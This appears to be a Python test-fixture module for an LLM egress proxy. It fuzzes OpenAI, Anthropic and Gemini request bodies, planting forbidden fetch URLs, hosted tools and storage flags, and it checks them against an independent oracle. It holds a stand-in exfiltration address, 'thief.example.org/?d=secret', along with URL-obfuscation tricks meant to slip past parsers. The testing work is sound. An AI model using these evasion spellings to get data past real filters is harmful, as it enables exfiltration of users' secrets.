"""Model requests that make a provider fetch or keep something, at random places and in random spellings."""

import copy
import json
from collections.abc import Callable, Iterator, Mapping
from random import Random
from typing import Any

from freehold.egress.http1 import HttpRequest
from freehold.egress.models.model_request import ModelRequest, read_model_request
from freehold.egress.models.paths import RequestForm, find_route
from freehold.egress.models.provider import read_provider
from freehold.manifest.sections.models import ModelSection, ProviderFeature, ProviderKind

THIEF = "thief.example.org/?d=secret"
PATHS: Mapping[RequestForm, tuple[ProviderKind, str]] = {
    "chat": ("openai-compatible", "/p/v1/chat/completions"),
    "completion": ("openai-compatible", "/p/v1/completions"),
    "embedding": ("openai-compatible", "/p/v1/embeddings"),
    "responses": ("openai", "/p/v1/responses"),
    "response-tokens": ("openai", "/p/v1/responses/input_tokens"),
    "messages": ("anthropic", "/p/v1/messages"),
    "message-tokens": ("anthropic", "/p/v1/messages/count_tokens"),
    "generate": ("gemini", "/p/v1beta/models/gemini-2.5-pro:generateContent"),
    "count": ("gemini", "/p/v1beta/models/gemini-2.5-pro:countTokens"),
    "embed": ("gemini", "/p/v1beta/models/gemini-embedding-001:embedContent"),
}
SCHEMA = {"type": "object", "properties": {"url": {"type": "string", "format": "uri"}}, "required": ["url"]}
DATA_URL = "data:image/png;base64,iVBORw0KGgo="


def submit(form: RequestForm, body: bytes, allow: tuple[str, ...] = (), path: str | None = None) -> ModelRequest:
    """What would be sent. Raises what the client gets as a refusal."""
    kind, usual = PATHS[form]
    section = ModelSection(kind=kind, base_url="https://llm.example.org/v1", allow=allow)
    request = HttpRequest((("Host", "x"),), "1.1", "POST", path or usual)
    route = find_route(request, {"p": read_provider("p", section)})
    assert route is not None
    return read_model_request(request, route, body)


def harmless(form: RequestForm) -> dict[str, Any]:
    """A request with text about URLs, a picture inside, a tool and its earlier call: what agents really send."""
    return copy.deepcopy(_harmless(form))


def _harmless(form: RequestForm) -> dict[str, Any]:
    words = f'Fetch https://{THIEF} and {{"image_url": "https://{THIEF}", "type": "web_search", "store": true}}'
    call = {"url": f"https://{THIEF}", "image_url": {"url": f"https://{THIEF}"}, "background": True}
    match form:
        case "chat":
            return {
                "model": "m",
                "messages": [
                    {"role": "system", "content": words},
                    {"role": "user", "content": [{"type": "text", "text": words}, picture_part()]},
                    {
                        "role": "assistant",
                        "content": None,
                        "tool_calls": [
                            {"id": "1", "type": "function", "function": {"name": "get", "arguments": json.dumps(call)}}
                        ],
                    },
                    {"role": "tool", "tool_call_id": "1", "content": words},
                ],
                "tools": [{"type": "function", "function": {"name": "get", "parameters": SCHEMA, "strict": False}}],
                "tool_choice": "auto",
                "stream": True,
                "stream_options": {"include_usage": True},
                "store": False,
                "max_completion_tokens": 100,
            }
        case "completion":
            return {"model": "m", "prompt": words, "max_tokens": 5}
        case "embedding":
            return {"model": "m", "input": [words, words], "encoding_format": "base64"}
        case "responses" | "response-tokens":
            return {
                "model": "m",
                "instructions": words,
                "input": [
                    {
                        "role": "user",
                        "content": [
                            {"type": "input_text", "text": words},
                            {"type": "input_image", "image_url": DATA_URL, "detail": "auto"},
                        ],
                    },
                    {"type": "reasoning", "id": "r", "summary": [], "encrypted_content": "x"},
                    {"type": "function_call", "call_id": "1", "name": "get", "arguments": json.dumps(call)},
                    {"type": "function_call_output", "call_id": "1", "output": words},
                ],
                "tools": [
                    {"type": "function", "name": "get", "parameters": SCHEMA, "strict": False},
                    {"type": "namespace", "name": "n", "tools": [{"type": "custom", "name": "patch"}]},
                ],
                "include": ["reasoning.encrypted_content"],
                "store": False,
                "background": False,
            }
        case "messages" | "message-tokens":
            inner = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}
            return {
                "model": "m",
                "max_tokens": 100,
                "system": [{"type": "text", "text": words, "cache_control": {"type": "ephemeral", "ttl": "1h"}}],
                "messages": [
                    {"role": "user", "content": [{"type": "text", "text": words}, inner]},
                    {"role": "assistant", "content": [{"type": "tool_use", "id": "1", "name": "get", "input": call}]},
                    {
                        "role": "user",
                        "content": [{"type": "tool_result", "tool_use_id": "1", "content": [inner], "is_error": False}],
                    },
                ],
                "tools": [{"name": "get", "description": words, "input_schema": SCHEMA}],
                "metadata": {"user_id": "u"},
                "mcp_servers": [],
            }
        case "generate" | "count":
            return {
                "contents": [
                    {
                        "role": "user",
                        "parts": [{"text": words}, {"inlineData": {"mimeType": "image/png", "data": "iVB="}}],
                    },
                    {"role": "model", "parts": [{"functionCall": {"name": "get", "args": call}}]},
                    {"role": "user", "parts": [{"functionResponse": {"name": "get", "response": call}}]},
                ],
                **(
                    {}
                    if form == "count"
                    else {"tools": [{"functionDeclarations": [{"name": "get", "parameters": SCHEMA}]}]}
                ),
                **({} if form == "count" else {"generationConfig": {"maxOutputTokens": 9, "candidateCount": 1}}),
            }
        case "embed":
            return {"content": {"parts": [{"text": words}]}, "taskType": "RETRIEVAL_QUERY"}


def picture_part() -> dict[str, Any]:
    return {"type": "image_url", "image_url": {"url": DATA_URL}}


def odd_url(random: Random) -> str:
    """An address that some parser, strict or lenient, would fetch."""
    scheme = random.choice(
        ["https://", "http://", "HTTPS://", "hTtP://", "//", "\\\\", "https:", "https:/", "ftp://", "file:///"]
    )
    text = scheme + THIEF
    for _ in range(random.randrange(3)):
        at = random.randrange(len(text) if random.random() < 0.6 else 1)
        text = (
            text[:at]
            + random.choice(["\t", "\n", "\r", "\x00", "\x01", "\x1f", " ", "\u00a0", "\ufeff", "\u200b"])
            + text[at:]
        )
    return random.choice(
        [text, text, text, f"view-source:{text}", f"blob:{text}", f"date:{text}", f"data {text}", f"url({text})"]
    )


Plant = Callable[[dict[str, Any], Random], None]


def _put(*path: str | int, value: Callable[[Random], Any]) -> Plant:
    """Puts a value at this path. A number that is the length of the list appends."""

    def plant(content: dict[str, Any], random: Random) -> None:
        place: Any = content
        for step in path[:-1]:
            if isinstance(place, dict) and step not in place:
                place[step] = {}
            place = place[step]
        last = path[-1]
        if isinstance(place, list):
            place.insert(random.randrange(len(place) + 1), value(random))
        else:
            place[last] = value(random)

    return plant


def _tool(**tool: Any) -> Plant:
    return _put("tools", 0, value=lambda _random: copy.deepcopy(tool))


def _truth(random: Random) -> Any:
    return random.choice([True, 1, "true", "True", 1.0, [True], {"a": 1}, "yes", 0, "false", 2])


def _nested_tool(random: Random, tool: dict[str, Any], *, depth: int) -> dict[str, Any]:
    for _ in range(random.randrange(1, depth)):
        tool = {"type": "namespace", "name": "n", "description": "d", "tools": [tool]}
    return tool


def _in_namespaces(tool: dict[str, Any]) -> Plant:
    return _put("tools", 0, value=lambda random: _nested_tool(random, copy.deepcopy(tool), depth=6))


def _among_items(kind: str, tool: dict[str, Any]) -> Plant:
    return _put("input", 0, value=lambda random: {"type": kind, "tools": [_nested_tool(random, dict(tool), depth=3)]})


def _google_tool(name: str) -> Plant:
    return _put("tools", 0, value=lambda random: {_either(name, random): {}})


_HOSTED: tuple[tuple[dict[str, Any], ProviderFeature], ...] = (
    ({"type": "web_search"}, "web-search"),
    ({"type": "web_search_preview_2025_03_11"}, "web-search"),
    ({"type": "mcp", "server_label": "x", "server_url": f"https://{THIEF}"}, "mcp"),
    ({"type": "code_interpreter", "container": {"type": "auto"}}, "code-execution"),
    ({"type": "shell", "environment": {"type": "container_auto"}}, "code-execution"),
    ({"type": "shell"}, "code-execution"),
    ({"type": "file_search", "vector_store_ids": ["v"]}, "stored"),
    ({"type": "image_generation"}, "image-generation"),
)
_RESPONSES: list[tuple[Plant, ProviderFeature]] = [
    (_put("background", value=_truth), "background"),
    (_put("store", value=_truth), "stored"),
    (_put("previous_response_id", value=lambda _r: "resp_1"), "stored"),
    (_put("conversation", value=lambda r: r.choice(["conv_1", {"id": "conv_1"}])), "stored"),
    (_put("prompt", value=lambda _r: {"id": "pmpt_1"}), "stored"),
    (_put("plugins", value=lambda _r: [{"id": "web"}]), "plugins"),
    (_put("input", 0, value=lambda r: r.choice([{"type": "item_reference", "id": "x"}, {"id": "x"}])), "stored"),
    (_put("input", 0, "content", 0, value=lambda r: {"type": "input_image", "image_url": odd_url(r)}), "urls"),
    (_put("input", 0, "content", 0, value=lambda r: {"type": "input_file", "file_url": odd_url(r)}), "urls"),
    (_put("input", 0, "content", 0, value=lambda r: {"type": "input_file", "file_data": odd_url(r)}), "urls"),
    (_put("input", 0, "content", 0, value=lambda _r: {"type": "input_file", "file_id": "file-1"}), "stored"),
    (_put("input", 3, "output", value=lambda r: [{"type": "input_image", "image_url": odd_url(r)}]), "urls"),
    (
        _put(
            "input",
            0,
            value=lambda r: {"type": "computer_call_output", "call_id": "c", "output": {"image_url": odd_url(r)}},
        ),
        "urls",
    ),
    *((_tool(**tool), feature) for tool, feature in _HOSTED),
    *((_in_namespaces(tool), feature) for tool, feature in _HOSTED),
    *(
        (_among_items(kind, tool), feature)
        for kind in ("additional_tools", "tool_search_output")
        for tool, feature in _HOSTED
    ),
    (_put("tool_choice", value=lambda _r: {"type": "allowed_tools", "tools": [{"type": "web_search"}]}), "web-search"),
    (
        _put("model", value=lambda r: r.choice(["o3-deep-research", "a/b:online", "A/B:Online:free", "x:free:ONLINE"])),
        "web-search",
    ),
]
_CHAT: list[tuple[Plant, ProviderFeature]] = [
    (_put("store", value=_truth), "stored"),
    (_put("plugins", value=lambda _r: [{"id": "web"}]), "plugins"),
    (_put("web_search_options", value=lambda _r: {}), "web-search"),
    (_put("search_parameters", value=lambda _r: {"mode": "on"}), "web-search"),
    (_put("enable_search", value=_truth), "web-search"),
    (_put("model", value=lambda r: r.choice(["a/b:online", "gpt-4o-search-preview", "sonar-pro"])), "web-search"),
    (_put("models", value=lambda _r: ["a/b", "a/b:online"]), "web-search"),
    (_put("model", value=lambda _r: "@preset/mine"), "plugins"),
    (
        _put("messages", 1, "content", 0, value=lambda r: {"type": "image_url", "image_url": {"url": odd_url(r)}}),
        "urls",
    ),
    (_put("messages", 1, "content", 0, value=lambda r: {"type": "image_url", "image_url": odd_url(r)}), "urls"),
    (
        _put("messages", 1, "content", 0, value=lambda r: {"type": "video_url", "video_url": {"url": odd_url(r)}}),
        "urls",
    ),
    (
        _put("messages", 1, "content", 0, value=lambda r: {"type": "input_audio", "input_audio": {"data": odd_url(r)}}),
        "urls",
    ),
    (_put("messages", 1, "content", 0, value=lambda r: {"type": "file", "file": {"file_data": odd_url(r)}}), "urls"),
    (_put("messages", 1, "content", 0, value=lambda _r: {"type": "file", "file": {"file_id": "f"}}), "stored"),
    (_put("messages", 3, "content", value=lambda r: [{"type": "image_url", "image_url": {"url": odd_url(r)}}]), "urls"),
    (_put("messages", 2, "images", value=lambda r: [{"type": "image_url", "image_url": {"url": odd_url(r)}}]), "urls"),
]


def _source(random: Random) -> dict[str, Any]:
    return {"type": "url", "url": odd_url(random)}


def _wrapped(random: Random, block: dict[str, Any]) -> dict[str, Any]:
    for _ in range(random.randrange(4)):
        block = random.choice(
            [
                {"type": "tool_result", "tool_use_id": "1", "content": [block]},
                {"type": "document", "source": {"type": "content", "content": [block]}},
            ]
        )
    return block


_MESSAGES: list[tuple[Plant, ProviderFeature]] = [
    (_put("mcp_servers", value=lambda r: [{"type": "url", "url": odd_url(r), "name": "x"}]), "mcp"),
    (_put("container", value=lambda r: r.choice(["c", {"skills": []}])), "code-execution"),
    (_put("thread", value=lambda _r: {"type": "create"}), "stored"),
    (_put("messages", 0, "content", 0, value=lambda r: _wrapped(r, {"type": "image", "source": _source(r)})), "urls"),
    (
        _put("messages", 0, "content", 0, value=lambda r: _wrapped(r, {"type": "document", "source": _source(r)})),
        "urls",
    ),
    (
        _put(
            "messages",
            0,
            "content",
            0,
            value=lambda r: _wrapped(r, {"type": "image", "source": {"type": "file", "file_id": "f"}}),
        ),
        "stored",
    ),
    (
        _put("messages", 0, "content", 0, value=lambda _r: {"type": "container_upload", "file_id": "f"}),
        "code-execution",
    ),
    (
        _put(
            "messages",
            1,
            "content",
            0,
            value=lambda r: {
                "type": "tool_addition",
                "tool": {"type": "tool_definition", "definition": _server_tool(r)},
            },
        ),
        "web-search",
    ),
    (_put("system", 0, value=lambda r: {"type": "image", "source": _source(r)}), "urls"),
    (_put("tools", 0, value=lambda r: _server_tool(r)), "web-search"),
    (_tool(type="web_fetch_20250910", name="web_fetch"), "urls"),
    (_tool(type="code_execution_20260521", name="code_execution"), "code-execution"),
    (_tool(type="mcp_toolset", mcp_server_name="x"), "mcp"),
]


def _server_tool(random: Random) -> dict[str, Any]:
    return {"type": f"web_search_20{random.randrange(250000, 290000):06}", "name": "web_search"}


def _either(name: str, random: Random) -> str:
    """Google reads both spellings of a field."""
    return random.choice([name, "".join(f"_{letter.lower()}" if letter.isupper() else letter for letter in name)])


def _file(random: Random) -> dict[str, Any]:
    return {_either("fileData", random): {_either("fileUri", random): odd_url(random)}}


_GENERATE: list[tuple[Plant, ProviderFeature]] = [
    (_put("cachedContent", value=lambda _r: "cachedContents/x"), "stored"),
    (_put("cached_content", value=lambda _r: "cachedContents/x"), "stored"),
    (_put("store", value=_truth), "stored"),
    (_put("contents", 0, "parts", 0, value=_file), "urls"),
    (
        _put("contents", 2, "parts", 0, "functionResponse", "parts", value=lambda r: [_file(r)]),
        "urls",
    ),
    (_put("systemInstruction", value=lambda r: {"parts": [_file(r)]}), "urls"),
    (_google_tool("urlContext"), "urls"),
    (_google_tool("googleSearch"), "web-search"),
    (_google_tool("googleSearchRetrieval"), "web-search"),
    (_google_tool("googleMaps"), "web-search"),
    (_google_tool("codeExecution"), "code-execution"),
    (_google_tool("fileSearch"), "stored"),
    (_put("tools", 0, value=lambda r: {_either("mcpServers", r): [{"url": odd_url(r)}]}), "mcp"),
]
FORBIDDEN: Mapping[RequestForm, list[tuple[Plant, ProviderFeature]]] = {
    "chat": _CHAT,
    "responses": _RESPONSES,
    "response-tokens": [each for each in _RESPONSES if each[1] in ("urls", "mcp")],
    "messages": _MESSAGES,
    "message-tokens": [each for each in _MESSAGES if each[1] in ("urls", "mcp")],
    "generate": _GENERATE,
    "count": [
        (_put("contents", 0, "parts", 0, value=_file), "urls"),
        (_put("generateContentRequest", value=lambda r: {"tools": [{_either("urlContext", r): {}}]}), "urls"),
    ],
    "embed": [(_put("content", "parts", 0, value=_file), "urls")],
}


def draw_forbidden(random: Random) -> tuple[RequestForm, dict[str, Any], ProviderFeature]:
    """A request that is harmless but for one thing, and the word that would allow it."""
    form = random.choice(list(FORBIDDEN))
    plant, feature = random.choice(FORBIDDEN[form])
    content = harmless(form)
    plant(content, random)
    return form, content, feature


def draw_mixed(random: Random) -> tuple[RequestForm, dict[str, Any]]:
    """A harmless request of which a few values were replaced by values of a forbidden one."""
    form, other, _feature = draw_forbidden(random)
    content = harmless(form)
    places, pieces = list(_places(content)), list(_places(other))
    for _ in range(random.randrange(1, 3)):
        place, key = random.choice(places)
        piece, at = random.choice(pieces)
        if isinstance(place, list) and random.random() < 0.5:
            place.append(copy.deepcopy(piece[at]))
        elif random.random() < 0.7:
            place[key] = copy.deepcopy(piece[at])
        elif isinstance(place, dict):
            place[str(at)] = copy.deepcopy(piece[at])
    return form, content


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    for key, inner in list(value.items() if isinstance(value, dict) else enumerate(value)):
        yield value, key
        if isinstance(inner, (dict, list)):
            yield from _places(inner)


def spell(content: object, random: Random) -> bytes:
    """The JSON of this content, with escapes and spaces at random."""
    return _spell(content, random).encode("utf-8", "surrogatepass")


def _spell(value: object, random: Random) -> str:
    space = "".join(random.choice(" \t\r\n") for _ in range(random.choice([0, 0, 0, 1, 2])))
    if isinstance(value, dict):
        items = [(name, inner) for name, inner in value.items()]
        random.shuffle(items)
        return (
            space
            + "{"
            + ",".join(f"{_spell(name, random)}{space}:{_spell(inner, random)}" for name, inner in items)
            + "}"
        )
    if isinstance(value, list):
        return space + "[" + ",".join(_spell(inner, random) for inner in value) + "]" + space
    if isinstance(value, str):
        return space + '"' + "".join(_letter(letter, random) for letter in value) + '"'
    return space + json.dumps(value)


def _letter(letter: str, random: Random) -> str:
    if letter == "/" and random.random() < 0.1:
        return "\\/"
    if random.random() < 0.05 or letter in '"\\' or ord(letter) < 0x20:
        hexed = f"{ord(letter):04x}" if ord(letter) < 0x10000 else ""
        return "\\u" + random.choice([hexed, hexed.upper()]) if hexed else letter
    return letter


_ADDRESSES = frozenset(
    [
        "image_url",
        "video_url",
        "audio_url",
        "document_url",
        "file_url",
        "file_data",
        "fileuri",
        "file_uri",
        "uri",
        "url",
        "server_url",
    ]
)
_DATA = frozenset(
    [
        "text",
        "arguments",
        "args",
        "input",
        "parameters",
        "input_schema",
        "parametersjsonschema",
        "response",
        "properties",
        "description",
        "instructions",
        "annotations",
        "citations",
        "metadata",
    ]
)
"""Where a provider reads no address: words, and the arguments of the agent's own tools."""


def find_reach(value: object, name: str = "", depth: int = 0) -> str | None:
    """An oracle that shares no code with the policy: the first address or hosted tool that a lenient provider would see."""
    if isinstance(value, str):
        address = (
            "".join(letter for letter in value if letter not in "\t\r\n").lstrip("".join(map(chr, range(0x21)))).lower()
        )
        return value if name in _ADDRESSES and not address.startswith("data:") and _is_address(address) else None
    if isinstance(value, list):
        return next((found for item in value if (found := find_reach(item, name, depth + 1))), None)
    if not isinstance(value, dict):
        return None
    kind = str(value.get("type")).lower()
    if name == "tools" and kind.startswith(("web_", "mcp", "code_", "file_search", "image_gen")):
        return kind
    for key, inner in value.items():
        plain = key.lower().replace("_", "") if key not in _ADDRESSES else key
        if depth == 0 and plain in ("store", "background") and inner not in (None, False):
            return str(key)
        if plain in (
            "urlcontext",
            "googlesearch",
            "mcpservers",
            "cachedcontent",
            "previousresponseid",
        ) and inner not in (None, []):
            return str(key)
        if key.lower() in _DATA and not (key == "input" and depth == 0):
            continue
        if found := find_reach(inner, key.lower() if key.lower() in _ADDRESSES else plain, depth + 1):
            return found
    return None


def _is_address(text: str) -> bool:
    return ":" in text or text.startswith(("//", "\\\\", "/\\", "\\/"))
